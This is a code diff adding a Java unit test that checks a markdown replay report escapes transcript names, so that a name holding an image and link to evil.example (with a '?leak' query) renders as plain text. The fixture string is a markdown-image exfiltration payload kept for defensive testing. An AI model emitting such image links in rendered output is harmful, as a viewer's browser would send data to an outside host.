@@ -120,6 +120,16 @@ class ReplayMarkdownReportTest {
     }
 
     @Test
+    void a_name_makes_no_link_or_image() {
+        // A log names its traces: rendered where the report is pasted, an image would fetch the URL as the page opens.
+        String md = render(List.of(ReplayFixtures.transcript(
+                "![x](https://evil.example/?leak)[y](https://evil.example/)")));
+
+        assertThat(md).contains("| ![x\\](https://evil.example/?leak)[y\\](https://evil.example/) |")
+                .doesNotContainPattern("[^\\\\]\\]\\(");
+    }
+
+    @Test
     void says_so_when_the_transcript_was_not_replayed() {
         assertThat(render(List.of(ReplayFixtures.masking("lexer")))).contains(" n/a |");
     }
